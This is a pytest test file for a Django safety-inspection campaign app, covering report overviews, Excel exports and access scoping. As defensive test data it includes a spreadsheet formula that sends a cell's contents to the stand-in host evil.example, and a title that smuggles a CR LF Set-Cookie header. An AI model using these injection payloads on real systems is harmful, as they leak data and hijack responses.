"""A report task's overview: each unit's state with frozen time, the counts, a constant number of
queries whatever the number of units, the workbooks read back equal to what the page shows, user
text stays text in Excel, and a township sees only its own units."""

from __future__ import annotations

import io
from datetime import date
from typing import Any

import pytest
from django.db import connection
from django.template import Context, engines
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from campaigns import reports
from campaigns.exports import progress_workbook, write_task_workbook
from campaigns.models import ReportTask, ReportVersion, UnitReport
from campaigns.overview import campaign_overview, state_counts, task_overview
from campaigns.progress import campaign_progress, targets_not_inspected
from inspections.models import Inspection
from safetyops.orgs.models import Department, Node, Role
from tests.campaigns.factories import county_campaign, travel
from tests.campaigns.test_task_overview_rows import BASELINE
from tests.conftest import World
from tests.orgs.factories import EnterpriseFactory, NodeFactory, make_user

START, END, DEADLINE = date(2026, 11, 1), date(2026, 12, 31), date(2026, 11, 30)
FIGURES = [{"key": "hazards_found"}, {"key": "free_1", "label": "宣传材料发放", "unit": "份"}]


def _town(world: World, name: str) -> tuple[Node, Any]:
    town = NodeFactory(name=name, parent=world.county)
    return town, make_user(Role.TOWNSHIP_OFFICIAL, node=town, username=f"official_{town.code}")


def _task(world: World, units: list[Any]) -> ReportTask:
    with travel(date(2026, 11, 2)):
        campaign = county_campaign(world, year=2026, starts_on=START, ends_on=END)
        return reports.task_create(
            actor=world.county_admin,
            campaign_id=campaign.pk,
            title="11月底前将隐患整治情况上报安委办",
            deadline=DEADLINE,
            units=units,
            figures=FIGURES,
        )


def _submit(user: Any, task: ReportTask, node: Node, day: date, **values: Any) -> ReportVersion:
    report = UnitReport.objects.get(task=task, node=node)
    with travel(day):
        return reports.report_submit(
            actor=user,
            report_id=report.pk,
            values={"hazards_found": "0", "free_1": "300", **values.pop("values", {})},
            **values,
        )


@pytest.fixture
def five(world: World) -> dict[str, Any]:
    """Five townships: on time (a corrected figure), late, missing, zero, returned."""
    c, _nobody_reports = _town(world, "南湖镇")
    d, official_d = _town(world, "北岭镇")
    e, official_e = _town(world, "中和镇")
    task = _task(world, [world.town_a, world.town_b, c, d, e])
    _submit(world.official_a, task, world.town_a, date(2026, 11, 20))
    _submit(
        world.official_a,
        task,
        world.town_a,
        date(2026, 11, 28),
        values={"hazards_found": "2"},
        notes={"hazards_found": "两条纸质记录未录入"},
        text="已完成全覆盖检查",
    )
    _submit(world.official_b, task, world.town_b, date(2026, 12, 2))
    _submit(official_d, task, d, date(2026, 11, 25), values={"free_1": "0"})
    _submit(official_e, task, e, date(2026, 11, 21))
    with travel(date(2026, 12, 3)):
        reports.report_return(actor=world.county_admin, report_id=UnitReport.objects.get(node=e).pk, reason="数据有误")
    return {"task": task, "c": c, "d": d, "e": e}


def test_states_with_frozen_time_and_counts(world: World, five: dict[str, Any]) -> None:
    task = five["task"]
    with travel(date(2026, 12, 5)):
        rows = task_overview(user=world.county_admin, task=task)
    by_name = {row.unit_name: row for row in rows}
    assert {name: row.state for name, row in by_name.items()} == {
        "东城镇": "submitted",
        "西山镇": "late",
        "南湖镇": "missing",
        "北岭镇": "zero",
        "中和镇": "returned",
    }
    assert [row.state_label for row in rows if row.unit_name == "西山镇"] == ["迟报"]
    a = by_name["东城镇"]
    assert (a.versions, a.text, a.area, a.unit_kind) == (2, "已完成全覆盖检查", "东城镇", "node")
    assert a.figures["hazards_found"] == {"value": "2", "system": "0", "note": "两条纸质记录未录入"}
    assert timezone.localtime(a.submitted_at).date() == date(2026, 11, 28)
    missing = by_name["南湖镇"]
    assert (missing.versions, missing.submitted_at, missing.figures, missing.text) == (0, None, {}, "")
    assert state_counts(row.state for row in rows) == {
        "submitted": 1, "late": 1, "zero": 1, "returned": 1, "missing": 1, "waiting": 0, "total": 5,
    }  # fmt: skip
    # The same states as report_state gives one report at a time.
    for report in UnitReport.objects.filter(task=task).select_related("task"):
        latest = report.versions.order_by("-number").first()
        assert reports.report_state(report, latest, today=date(2026, 12, 5)) == by_name[report.unit_name].state
    # Before the deadline the one without a report is not yet due (待报).
    with travel(date(2026, 11, 29)):
        assert {r.unit_name: r.state for r in task_overview(user=world.county_admin, task=task)}["南湖镇"] == "waiting"
    with travel(date(2026, 12, 5)):
        (counted,) = campaign_overview(user=world.county_admin, campaign=task.campaign)
    assert counted.task == task and counted.counts == state_counts(row.state for row in rows)


def _task_with_units(world: World, n: int) -> ReportTask:
    towns = [NodeFactory(name=f"测试镇{i:02d}", parent=world.county) for i in range(n)]
    task = _task(world, towns)
    now = timezone.now()
    versions = []
    for index, report in enumerate(UnitReport.objects.filter(task=task).order_by("pk")):
        for number in range(1, index % 3 + 1):  # none, one or two versions
            versions.append(
                ReportVersion(report=report, number=number, figures={"hazards_found": {"value": "1"}},
                              zero=index % 5 == 0, late=index % 4 == 0, submitted_by=world.county_admin,
                              submitted_at=now)
            )  # fmt: skip
    ReportVersion.objects.bulk_create(versions)
    return task


def test_the_number_of_queries_does_not_grow_with_the_units(world: World, django_assert_num_queries: Any) -> None:
    small, large = _task_with_units(world, 3), _task_with_units(world, 30)
    counts = []
    for task in (small, large):
        with CaptureQueriesContext(connection) as queries:
            rows = task_overview(user=world.county_admin, task=task)
        counts.append(len(queries.captured_queries))
        assert {row.versions for row in rows} == {0, 1, 2}
    assert counts[0] == counts[1]
    with django_assert_num_queries(1):  # the scope came with the user (orgs/backends.py)
        task_overview(user=world.official_a, task=large)
    with django_assert_num_queries(2):
        campaign_overview(user=world.county_admin, campaign=large.campaign)


def _sheet_rows(content: bytes, sheet: str) -> list[tuple[Any, ...]]:
    workbook = load_workbook(io.BytesIO(content))
    return [tuple(row) for row in workbook[sheet].iter_rows(min_row=3, values_only=True)]


def _saved(workbook: Any) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _task_xlsx(rows: list[Any], task: ReportTask) -> bytes:
    out = io.BytesIO()
    write_task_workbook(rows, task, out)
    return out.getvalue()


def test_task_workbook_equals_the_rows(world: World, five: dict[str, Any]) -> None:
    task = five["task"]
    with travel(date(2026, 12, 5)):
        rows = task_overview(user=world.county_admin, task=task)
        content = _task_xlsx(rows, task)
    header = next(load_workbook(io.BytesIO(content))["报送情况"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert header == (
        "承办单位", "所在地区", "报送状态", "报送时间", "版本数",
        "发现隐患数（条）", "发现隐患数（系统统计）", "发现隐患数（修改说明）", "宣传材料发放（份）", "报送内容",
    )  # fmt: skip
    expected = []
    for row in rows:
        found = row.figures.get("hazards_found", {})
        corrected = found.get("system") not in (None, found.get("value"))
        free = row.figures.get("free_1", {}).get("value")
        submitted = (
            timezone.localtime(row.submitted_at).replace(tzinfo=None, microsecond=0) if row.submitted_at else None
        )
        expected.append(
            (row.unit_name, row.area, row.state_label, submitted, row.versions,
             int(found["value"]) if found else None, int(found["system"]) if corrected else None,
             found.get("note") or None, int(free) if free else None, row.text or None)
        )  # fmt: skip
    assert _sheet_rows(content, "报送情况") == expected
    assert expected[0][:3] == ("东城镇", "东城镇", "已报") and expected[0][5:8] == (2, 0, "两条纸质记录未录入")


def test_task_workbook_keeps_the_heading_layout_and_formats(world: World, five: dict[str, Any]) -> None:
    """The layout sheet_heading gave: a bold 14pt title (text even when it reads as a formula), bold
    column names, panes frozen below them; the submitted time as a datetime with its format."""
    task = five["task"]
    ReportTask.objects.filter(pk=task.pk).update(title="=1+1 整治")
    task.refresh_from_db()
    with travel(date(2026, 12, 5)):
        sheet = load_workbook(io.BytesIO(_task_xlsx(task_overview(user=world.county_admin, task=task), task)))[
            "报送情况"
        ]
    title = sheet["A1"]
    assert title.value == "=1+1 整治 报送情况（截止2026-11-30）" and title.data_type == "s" and title.quotePrefix
    assert (title.font.b, title.font.sz) == (True, 14)
    assert all(cell.font.b for cell in sheet[2]) and sheet["A2"].value == "承办单位" and not sheet["A2"].quotePrefix
    assert sheet.freeze_panes == "B3"
    submitted = next(c for c in sheet["D"][2:] if c.value is not None)
    assert submitted.is_date and submitted.number_format == "yyyy-mm-dd hh:mm"
    assert not any(cell.font.b for cell in sheet[3])


def test_a_name_starting_with_equals_is_text_not_a_formula(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    enterprise = EnterpriseFactory(name=formula, node=world.town_a, sectors=[world.sector_build])
    task = _task(world, [enterprise, world.town_b])
    with travel(date(2026, 11, 20)):
        rows = task_overview(user=world.county_admin, task=task)
        workbook = load_workbook(io.BytesIO(_task_xlsx(rows, task)))
        cell = next(c for c in workbook.active["A"] if c.value == formula)
        assert cell.data_type == "s" and cell.quotePrefix
        progress = campaign_progress(user=world.county_admin, campaign=task.campaign)
        content = _saved(
            progress_workbook(progress, targets_not_inspected(user=world.county_admin, campaign=task.campaign))
        )
    names = [c for c in load_workbook(io.BytesIO(content))["未检查企业"]["B"] if c.value == formula]
    assert len(names) == 1 and names[0].data_type == "s" and names[0].quotePrefix


def test_progress_workbook_equals_the_progress(world: World) -> None:
    with travel(date(2026, 11, 2)):
        campaign = county_campaign(world, year=2026, starts_on=START, ends_on=END, goal_coverage=60)
    with travel(date(2026, 11, 10)):
        Inspection.objects.create(enterprise=world.ent_b, inspected_at=timezone.now(), created_by=world.official_b)
    with travel(date(2026, 12, 2)):
        progress = campaign_progress(user=world.county_admin, campaign=campaign)
        content = _saved(progress_workbook(progress, targets_not_inspected(user=world.county_admin, campaign=campaign)))
    summary = dict(row[:2] for row in _sheet_rows(content, "总体情况"))
    assert summary["目标企业数（家）"] == 3 and summary["已检查（家）"] == 1 and summary["未检查（家）"] == 2
    assert summary["检查覆盖率（%）"] == pytest.approx(33.3) and summary["覆盖率是否达标"] == "未达到"
    assert summary["统计期间"] == "2026-11-01至2026-12-02"
    ranking = _sheet_rows(content, "排名")
    assert [(r[0], r[1], r[2], r[3]) for r in ranking] == [
        (rank, part.name, part.targets, part.inspected) for rank, part in enumerate(progress.ranking, 1)
    ]
    assert [r[1] for r in ranking] == ["西山镇", "东城镇"]
    missing = _sheet_rows(content, "未检查企业")
    assert [(r[0], r[1], r[3]) for r in missing] == [(1, "东城建筑有限公司", "东城镇"), (2, "东城化工有限公司", "东村")]


def test_a_township_sees_only_its_units(world: World) -> None:
    task = _task(world, [world.town_a, world.town_b, world.ent_a, world.ent_b])
    with travel(date(2026, 11, 20)):
        mine = task_overview(user=world.official_a, task=task)
        everyone = task_overview(user=world.county_admin, task=task)
        ent = task_overview(user=world.enterprise_b, task=task)
    assert {row.unit_name for row in mine} == {"东城镇", "东城化工有限公司"}
    assert len(everyone) == 4 and [row.unit_name for row in ent] == ["西山建设工程有限公司"]


def test_every_kind_of_unit_has_the_models_name_kind_and_area(world: World) -> None:
    """The rows are read as values: each unit's name, kind and area are the model's (Unit.unit_name)."""
    department = Department.objects.create(node=world.town_b, name="西山镇应急办")
    task = _task(world, [world.town_a, department, world.ent_a])
    with travel(date(2026, 11, 20)):
        rows = task_overview(user=world.county_admin, task=task)
    reports_by_pk = {r.pk: r for r in UnitReport.objects.filter(task=task).select_related("area")}
    assert [(row.unit_name, row.unit_kind, row.area) for row in rows] == [
        (reports_by_pk[row.report_id].unit_name, reports_by_pk[row.report_id].unit_kind,
         reports_by_pk[row.report_id].area.name) for row in rows
    ]  # fmt: skip
    assert {(row.unit_name, row.unit_kind) for row in rows} == {
        ("东城镇", "node"), ("西山镇应急办", "department"), (world.ent_a.name, "enterprise"),
    }  # fmt: skip


def test_the_downloads_need_the_export_right_and_the_scope(client: Any, world: World) -> None:
    task = _task(world, [world.town_a, world.town_b])
    url = reverse("campaigns:task_export", kwargs={"pk": task.pk})
    client.force_login(world.official_a)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    rows = _sheet_rows(b"".join(response.streaming_content), "报送情况")
    assert [row[0] for row in rows] == ["东城镇"]  # the township's own unit only
    client.force_login(world.enterprise_a)
    assert client.get(url).status_code == 404
    progress_url = reverse("campaigns:campaign_progress_export", kwargs={"pk": task.campaign_id})
    client.force_login(world.leader_county)
    assert client.get(progress_url).status_code == 200
    assert (
        client.get(reverse("campaigns:campaign_progress_export", kwargs={"pk": task.campaign_id + 99})).status_code
        == 404
    )


def test_a_title_with_quotes_and_line_breaks_makes_a_safe_file_name(client: Any, world: World) -> None:
    task = _task(world, [world.town_a])
    ReportTask.objects.filter(pk=task.pk).update(title='报送"情况"\r\nSet-Cookie: x=1/..')
    client.force_login(world.county_admin)
    response = client.get(reverse("campaigns:task_export", kwargs={"pk": task.pk}))
    disposition = response["Content-Disposition"]
    assert response.status_code == 200 and "\n" not in disposition and "%E5%86%B5Set-Cookie%20x" in disposition
    # The quotes, slash, colon and line breaks are gone (the CR LF joined the title's parts).
    assert not [escaped for escaped in ("%22", "%2F", "%3A", "%0D", "%0A") if escaped in disposition]


def test_the_task_overview_page_shows_the_units_django_wrote(client: Any, world: World, five: dict[str, Any]) -> None:
    """The page's table and cards (Jinja2) are the Django template's (the baseline the rows had)."""
    task = five["task"]
    client.force_login(world.county_admin)
    with travel(date(2026, 12, 3)):
        response = client.get(reverse("campaigns:task_overview", kwargs={"pk": task.pk}))
    assert response.status_code == 200
    context = {key: response.context[key] for key in ("table", "rows", "figures")}
    assert len(context["rows"]) == 5
    django = engines["django"].from_string(BASELINE.read_text()).template  # type: ignore[attr-defined]
    page = response.content.decode()
    assert str(django.render(Context(context))) in page
    assert 'title="两条纸质记录未录入"' in page and "已完成全覆盖检查" in page and "第2版" in page
